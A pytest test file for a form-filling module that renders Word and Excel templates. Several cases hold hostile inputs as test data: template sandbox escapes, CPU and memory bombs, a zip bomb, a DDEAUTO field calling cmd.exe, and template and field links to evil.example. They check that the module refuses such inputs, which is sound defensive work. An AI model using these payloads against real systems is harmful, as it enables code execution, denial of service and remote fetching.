"""Forms come from others: nothing in one runs on, grows without bound, reaches outside or carries macros."""

import io
import time
import zipfile

import attrs
import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from shuangyong.forms.filling import faults, fill
from shuangyong.forms.opening import open_form
from shuangyong.model.problems import ProblemsFound

SECONDS = 15

ESCAPES = [
    "{{ unit.__class__ }}",
    "{{ unit.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ visit._reading.ledger }}",
    "{{ visit.where.__func__ }}",
    "{{ visit['_reading'] }}",
    "{{ unit|attr('__class__') }}",
    "{{ self }}",
    "{{ budget.manuscript }}",
    "{{ cycler('a') }}",
    "{{ namespace(a=1) }}",
    "{{ lipsum() }}",
    "{{ 'a'.join(['b']) }}",
    "{{ 'a'.ljust(10 ** 9) }}",
    "{% include 'x' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% extends 'x' %}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{% block x %}{% endblock %}",
    "{% set x %}a{% endset %}",
]

BOMBS = [
    "{% for a in range(1000) %}{% for b in range(1000) %}x{% endfor %}{% endfor %}",
    "{% for a in range(10 ** 9) %}x{% endfor %}",
    "{% for a in range(999999999) %}x{% endfor %}",
    "{{ 'x' * 999999999 }}",
    "{{ [1] * 999999999 }}",
    "{{ '%999999999d' % 1 }}",
    "{{ 9 ** 9 ** 9 ** 9 }}",
    "{{ 'x'|center(999999999) }}",
    "{{ 'x'|replace('x', 'y' * 99999999) }}",
    "{{ 'x'|format(1) }}",
    "{{ " + "9" * 6000 + " }}",
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "".join(f"{{% set x{i + 1} = x{i} ~ x{i} %}}" if i else "{% set x1 = 'abcdefgh' %}" for i in range(60))
    + "{{ x60 }}",
    "{{ [range(1000)|list]|map('join', '" + "z" * 9000 + "')|join('" + "z" * 9000 + "')|length }}",
    "{{ range(1000)|join('" + "z" * 20_000 + "')|length }}",
    "{% set x0 = ('a', 'b') %}"
    + "".join(f"{{% set x{i + 1} = (x{i}, x{i}, x{i}, x{i}) %}}" for i in range(40))
    + "{{ x40|join }}",
    "{% set x0 = {'a': 1} %}"
    + "".join(f"{{% set x{i + 1} = {{'a': x{i}, 'b': x{i}}} %}}" for i in range(40))
    + "{{ 'x' ~ x40 }}",
    "{{ [[1], [2]]|unique|first }}",
    "{{ 1e400 }}",
    "{% for a in visit recursive %}{{ loop(visit) }}{% endfor %}",
    "{% for a in range(900) %}{% for b in range(10) %}" + "x" * 9000 + "{% endfor %}{% endfor %}",
]


@pytest.mark.parametrize("text", [*ESCAPES, *BOMBS], ids=lambda text: text[:40])
def test_a_hostile_cell_is_refused_soon(sheet_form, hospital, catalog, text):
    started = time.process_time()
    with pytest.raises(ProblemsFound) as refused:
        fill(sheet_form({"A1": text}), hospital, catalog)
    assert time.process_time() - started < SECONDS
    problem = refused.value.problems[0]
    assert problem.code == "form-fault" and problem.cell == "A1"


@pytest.mark.parametrize("text", [*ESCAPES, *BOMBS], ids=lambda text: text[:40])
def test_a_hostile_paragraph_is_refused_soon(word_form, hospital, catalog, text):
    started = time.process_time()
    with pytest.raises(ProblemsFound) as refused:
        fill(word_form(text), hospital, catalog)
    assert time.process_time() - started < SECONDS
    assert refused.value.problems[0].code == "form-fault"


@pytest.mark.parametrize(
    "text", ["{{ " * 20_000, "{%tr " * 20_000, "{{ year }} " * 20_000, "{" * 200_000, "x{{" + "y" * 3_000_000]
)
def test_a_paragraph_that_would_keep_patterns_busy_is_refused_soon(word_form, hospital, catalog, text):
    started = time.process_time()
    with pytest.raises(ProblemsFound):
        fill(word_form(text), hospital, catalog)
    assert time.process_time() - started < SECONDS


PRYING = [
    "{% for group in 优抚对象登记.by('姓名') %}{{ group.label }}{% endfor %}",
    "{% set field = 'address' %}{% for group in entitled_person.by(field) %}{{ group.label }}{% endfor %}",
    "{{ 优抚对象登记.where(姓名='王某').条数 }}",
    "{{ entitled_person|selectattr('name', 'eq', '王某')|map(attribute='类别')|list }}",
    "{{ 优抚对象登记.latest['姓名'] }}",
    "{{ 双拥工作领导小组.latest.联络员电话 }}",
]


@pytest.mark.parametrize("text", PRYING)
def test_what_only_the_unit_may_keep_is_not_had_by_a_way_round(sheet_form, hospital, catalog, text):
    rows = [row for row in hospital.rows if row.kind.id == "entitled_person"]
    private = [attrs.evolve(row, record=attrs.evolve(row.record, name="王某", address="某路1号")) for row in rows]
    ledger = attrs.evolve(hospital, rows=(*private, *(row for row in hospital.rows if row not in rows)))
    with pytest.raises(ProblemsFound) as refused:
        fill(sheet_form({"A1": text}), ledger, catalog)
    assert "王某" not in refused.value.problems[0].message.replace(text, "")


def test_groups_are_not_called_by_a_true_designation(sheet_form, hospital, catalog):
    rows = [attrs.evolve(row, record=attrs.evolve(row.record, partner="某集团军第123旅")) for row in hospital.rows
            if row.kind.id == "visit"]  # fmt: skip
    form = sheet_form({"A1": "{% for group in visit.by('共建部队') %}{{ group.label }}{% endfor %}"})
    data = fill(form, attrs.evolve(hospital, rows=tuple(rows)), catalog).data
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A1"].value == "驻地某部"


def test_what_is_hidden_of_a_view_is_not_there(filled_sheet):
    cell = "{{ visit|map(attribute='_row')|list }}{{ visit|map(attribute='evidence')|list }}"
    assert filled_sheet({"A1": cell}).active["A1"].value is None


@pytest.mark.parametrize("name", ["表样.docm", "表样.xlsm", "表样.dotm", "表样.xltm", "表样.xlsb"])
def test_a_form_with_macros_is_refused_by_its_name(tmp_path, name):
    (tmp_path / name).write_bytes(b"PK")
    with pytest.raises(ProblemsFound) as refused:
        open_form(tmp_path / name)
    assert refused.value.problems[0].code == "form-with-macros"


@pytest.mark.parametrize("suffix", ["docx", "xlsx"])
def test_a_form_with_macros_is_refused_by_what_is_in_it(tmp_path, word_form, sheet_form, suffix):
    form = word_form("{{ year }}") if suffix == "docx" else sheet_form({"A1": "{{ year }}"})
    name = "word/vbaProject.bin" if suffix == "docx" else "xl/vbaProject.bin"
    with pytest.raises(ProblemsFound) as refused:
        open_form(changed(tmp_path, form, {name: b"macro"}))
    assert refused.value.problems[0].code == "form-with-macros"


def test_a_form_that_fetches_from_elsewhere_is_refused(tmp_path, word_form):
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(ProblemsFound) as refused:
        open_form(changed(tmp_path, word_form("{{ year }}"), {"word/_rels/settings.xml.rels": relation}))
    assert refused.value.problems[0].code == "form-refers-outside"


@pytest.mark.parametrize("field", ["DDEAUTO c:\\\\windows\\\\cmd.exe", " INCLUDETEXT http://evil.example/a.docx"])
def test_a_field_that_fetches_from_elsewhere_is_refused(word_form, field):
    def dress(document):
        run = document.paragraphs[0].add_run()
        for part in (field[:4], field[4:]):
            node = OxmlElement("w:instrText")
            node.text = part
            run._r.append(node)

    with pytest.raises(ProblemsFound) as refused:
        word_form("{{ year }}", dress=dress)
    assert refused.value.problems[0].code == "form-refers-outside"


def test_the_fields_of_any_document_are_no_matter(word_form):
    def dress(document):
        for text in (" PAGE ", ' HYPERLINK "http://a.example/link" ', " TOC "):
            node = OxmlElement("w:instrText")
            node.text = text
            document.add_paragraph().add_run()._r.append(node)

    assert word_form("{{ year }}", dress=dress).kind == "docx"


def test_a_workbook_with_data_from_elsewhere_is_refused(tmp_path, sheet_form):
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    for name in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml"):
        with pytest.raises(ProblemsFound) as refused:
            open_form(changed(tmp_path, sheet_form({"A1": "{{ year }}"}), {name: link}))
        assert refused.value.problems[0].code == "form-refers-outside"


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document/>',
        b"<w:document",
        b"<a>" + b" " * 9 * 2**20 + b"</a>",
    ],
)
def test_a_broken_or_swollen_form_is_refused(tmp_path, word_form, content):
    with pytest.raises(ProblemsFound) as refused:
        open_form(changed(tmp_path, word_form("{{ year }}"), {"word/document.xml": content}))
    assert refused.value.problems[0].code == "unreadable-form"


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    path = tmp_path / "表样.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("word/document.xml", "w") as part:
        for _ in range(400):
            part.write(b"\0" * 2**20)
    started = time.process_time()
    with pytest.raises(ProblemsFound) as refused:
        open_form(path)
    assert time.process_time() - started < SECONDS
    assert refused.value.problems[0].code == "unreadable-form"


@pytest.mark.parametrize("name", ["表样.doc", "表样.et", "表样.txt", "表样.docx", "表样.xlsx"])
def test_what_is_no_form_is_refused_in_words(tmp_path, name):
    (tmp_path / name).write_bytes(b"\xd0\xcf\x11\xe0 old")
    with pytest.raises(ProblemsFound) as refused:
        open_form(tmp_path / name)
    assert refused.value.problems[0].fix


def test_templates_in_the_ledgers_own_words_are_only_words(sheet_form, word_form, hospital, catalog):
    ledger = attrs.evolve(hospital, unit=attrs.evolve(hospital.unit, name="{{ 7*7 }}<w:br/>&{% raw %}"))
    assert not faults(word_form("{{ unit.name }}"), catalog, "hospital")
    data = fill(word_form("{{ unit.name }}"), ledger, catalog).data
    assert docx.Document(io.BytesIO(data)).paragraphs[0].text == "{{ 7*7 }}<w:br/>&{% raw %}"


def changed(folder, form, members):
    """Return a copy of a form with members replaced or added."""
    path = folder / f"changed.{form.kind}"
    with zipfile.ZipFile(io.BytesIO(form.data)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name in [*source.namelist(), *(name for name in members if name not in source.namelist())]:
            target.writestr(name, members.get(name) or source.read(name))
    return path


MISTAKES = [
    "{{ visit.where(3).count }}",
    "{{ visit.by('nix') }}",
    "{{ visit.months('a').count }}",
    "{{ visit.by('form')[50].count }}",
    "{{ 1 / 0 }}",
    "{% for a in 5 %}{{ a }}{% endfor %}",
    "{{ visit|sort(attribute='x')|list }}",
    "{{ visit }}",
    "{{ visit.latest }}",
    "{{ visit.count > 'a' }}",
    "{{ none }}",
    "{{ true }}",
    "{{ last }}",
    "{{ publicity.items }}",
    "{{ visit.count.count }}",
    "{{ visit.festival(visit).count + 1 }}",
    "{{ visit|join('、') }}",
    "{{ visit.by('节点')|yi }}",
    "{{ visit ~ '次' }}",
    "{{ visit.by('节点')|list }}",
]


@pytest.mark.parametrize("text", MISTAKES)
def test_a_mistake_is_told_in_words_and_never_as_a_fault_of_ours(sheet_form, word_form, hospital, catalog, text):
    for form in (sheet_form({"B2": text}), word_form(text)):
        with pytest.raises(ProblemsFound) as refused:
            fill(form, hospital, catalog)
        problem = refused.value.problems[0]
        assert problem.code == "form-fault" and problem.message and problem.fix


def test_a_loop_that_tears_a_table_apart_is_refused(word_form, hospital, catalog):
    def dress(document):
        table = document.add_table(2, 1)
        table.cell(0, 0).text = "{% for row in visit %}{{ row.title }}"
        document.add_paragraph("表外{% endfor %}")

    with pytest.raises(ProblemsFound) as refused:
        fill(word_form("表", dress=dress), hospital, catalog)
    assert "没有成对地放好" in refused.value.problems[0].message
